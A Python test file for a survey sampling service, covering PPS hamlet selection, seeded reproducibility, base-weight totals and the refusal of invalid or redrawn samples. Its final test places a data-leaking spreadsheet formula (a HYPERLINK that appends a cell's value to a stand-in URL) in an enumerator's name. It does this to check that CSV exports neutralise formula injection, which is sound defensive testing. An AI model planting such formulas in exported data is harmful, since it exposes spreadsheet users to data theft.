"""Is the stored sample the PPS draw it claims to be, reproducible, with clear refusals?"""

from __future__ import annotations

import pytest
from sqlalchemy import func
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from survey.models import AdminUnit, Response, SampleUnit, Stratum
from survey.models_sample import FieldAssignment
from survey.services.sample.draw import draw_sample
from survey.services.sample.frame import import_frame
from survey.services.sample.lists import fieldwork_hamlets
from survey.services.sample.questionnaire_ids import check_questionnaire_id
from survey.services.sample.rounds import publish_round
from tests import factories
from tests.sample.conftest import HEADER, add_fieldwork, frame_csv


def _draw(session: Session, **kw: object) -> object:
    args = {"strata_level": "district", "hamlets_per_stratum": 2, "per_hamlet": 10, "seed": 5}
    if kw.get("replace"):
        args["reason"] = "Khung mẫu cập nhật"
    args.update(kw)
    return draw_sample(session, "2026", **args)  # type: ignore[arg-type]


@pytest.fixture
def ready(engine: Engine) -> Engine:
    with Session(engine) as session:
        import_frame(session, frame_csv())
        factories.survey_round(session, code="2026", year=2026)
        session.commit()
    return engine


def test_each_sampled_hamlet_carries_its_pps_probability_stratum_and_ids(ready: Engine) -> None:
    with Session(ready) as session:
        factories.user(session, "enumerator", username="lan")
        factories.user(session, "enumerator", username="hung")
        draw = _draw(session, enumerators=["lan", "hung"])
        session.commit()
        units = session.exec(select(SampleUnit)).all()
        assert len(units) == 6 and len(draw.strata) == 3  # type: ignore[attr-defined]
        hamlets = {u.id: u for u in session.exec(select(AdminUnit))}
        for su in units:
            stratum = session.get(Stratum, su.stratum_id)
            assert stratum is not None and stratum.population_psus == 8
            siblings = [h for h in hamlets.values()
                        if h.code.startswith(stratum.code) and len(h.code) == 8]
            total = sum(h.households or 0 for h in siblings)
            x = hamlets[su.unit_id].households or 0
            assert su.prob_stage1 == pytest.approx(min(1.0, 2 * x / total), rel=1e-12)
            assert su.sample_size == 10 and len(su.psu_code) == 4
        lists = fieldwork_hamlets(session, "2026")
        assert {h.enumerator for h in lists} == {"lan", "hung"}
        ids = [q for h in lists for q in h.questionnaire_ids]
        assert len(ids) == len(set(ids)) == 60 and all(check_questionnaire_id(q) for q in ids)
        assert len(session.exec(select(FieldAssignment)).all()) == 6


def test_the_same_seed_gives_the_same_sample_and_the_seed_is_reported(ready: Engine) -> None:
    with Session(ready) as session:
        first = [h.unit_code for h in _draw(session, seed=11).hamlets]  # type: ignore[attr-defined]
        again = [h.unit_code for h in
                 _draw(session, seed=11, replace=True).hamlets]  # type: ignore[attr-defined]
        assert first == again
        others = {tuple(h.unit_code for h in _draw(session, seed=s, replace=True).hamlets)  # type: ignore[attr-defined]
                  for s in range(12, 20)}
        assert len(others) > 1
        unseeded = _draw(session, seed=None, replace=True)
        assert isinstance(unseeded.seed, int)  # type: ignore[attr-defined]


def test_sum_of_base_weights_is_the_frame_household_total(ready: Engine) -> None:
    """Listing exactly the frame's households: Σ 1/(π1·π2) over issued IDs = Σ households."""
    from survey.services.sample.weights import compute_weights

    with Session(ready) as session:
        _draw(session, hamlets_per_stratum=3, seed=8)
        add_fieldwork(session, "2026", lambda su, k: "completed" if k % 4 else "refused",
                      listed=lambda su: int(su.measure_of_size or 0))
        summary = compute_weights(session, "2026")
        frame_total = sum(h.households or 0 for h in session.exec(
            select(AdminUnit).where(AdminUnit.households.is_not(None))))  # type: ignore[union-attr]
        assert summary.sum_base == pytest.approx(frame_total, rel=1e-9)
        assert summary.sum_final == pytest.approx(frame_total, rel=1e-9)


@pytest.mark.parametrize(
    ("kw", "message"),
    [
        ({"hamlets_per_stratum": 9}, "fewer hamlets than the 9 to draw per stratum"),
        ({"hamlets_per_stratum": 0}, "at least 1"),
        ({"per_hamlet": 1000}, "1–999"),
        ({"certainty_threshold": 1.5}, "above 0 and at most 1"),
        ({"strata_level": "hamlet"}, "must be above"),
        ({"strata_level": "huyen"}, "not a level of the frame"),
        ({"size": "area"}, "measure of size must be one of households, population"),
        ({"enumerators": ["nobody"]}, "no active user 'nobody'"),
    ],
)
def test_bad_options_are_refused_and_nothing_is_drawn(
    ready: Engine, kw: dict[str, object], message: str
) -> None:
    with Session(ready) as session:
        with pytest.raises(ValueError, match=message):
            _draw(session, **kw)
        assert session.exec(select(SampleUnit)).first() is None


def test_an_unknown_or_published_round_is_refused(ready: Engine) -> None:
    with Session(ready) as session:
        with pytest.raises(ValueError, match="no survey round 'x'; known rounds: 2026"):
            draw_sample(session, "x", strata_level="district", hamlets_per_stratum=2,
                        per_hamlet=5)
        _draw(session)
        with pytest.raises(ValueError, match="ask for a redraw and give the reason"):
            _draw(session)
        with pytest.raises(ValueError, match="needs a reason"):
            _draw(session, replace=True, reason=" ")
        add_fieldwork(session, "2026", lambda su, k: "completed")
        with pytest.raises(ValueError, match="responses keyed against its sample"):
            _draw(session, replace=True)
        from survey.services.sample.weights import compute_weights

        compute_weights(session, "2026")
        publish_round(session, "2026")
        with pytest.raises(ValueError, match="is published"):
            _draw(session, replace=True)
        assert session.exec(select(Response)).first() is not None


def test_strata_by_district_fail_clearly_on_a_frame_without_districts(engine: Engine) -> None:
    text = "\n".join([HEADER, "90,Tỉnh,province,,,,,,,", "910001,Xã Mới,commune,90,,,,,,",
                      "91000101,Ấp 1,hamlet,910001,300,,,,,",
                      "91000102,Ấp 2,hamlet,910001,200,,,,,"])
    with Session(engine) as session:
        import_frame(session, text)
        factories.survey_round(session, code="2026", year=2026)
        with pytest.raises(ValueError, match="have no district above them"):
            _draw(session, hamlets_per_stratum=1)
        draw = _draw(session, strata_level="commune", hamlets_per_stratum=2)
        assert [h.certainty for h in draw.hamlets] == [True, True]  # type: ignore[attr-defined]


def test_the_fieldwork_list_never_carries_a_live_spreadsheet_formula(ready: Engine) -> None:
    """A unit or an enumerator named like a formula comes out as text (issue 15)."""
    import csv
    import io

    from survey.services.sample.lists import fieldwork_csv, fieldwork_hamlets

    with Session(ready) as session:
        factories.user(session, "enumerator", username="lan",
                       full_name='=HYPERLINK("http://x.example/?"&A1,"Bấm")')
        _draw(session, enumerators=["lan"])
        for unit in session.exec(select(AdminUnit).where(func.length(AdminUnit.code) == 8)):
            unit.name = "＝1+1" if unit.id % 2 else '=HYPERLINK("http://x.example")'
            session.add(unit)
        session.commit()
        text = fieldwork_csv("2026", fieldwork_hamlets(session, "2026"))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in c for c in cells) and any("＝1+1" in c for c in cells)
    live = [c for c in cells if c[:1] in ("=", "+", "@", "＝") or c.startswith("-") and
            not c[1:].replace(".", "").isdigit()]
    assert live == []
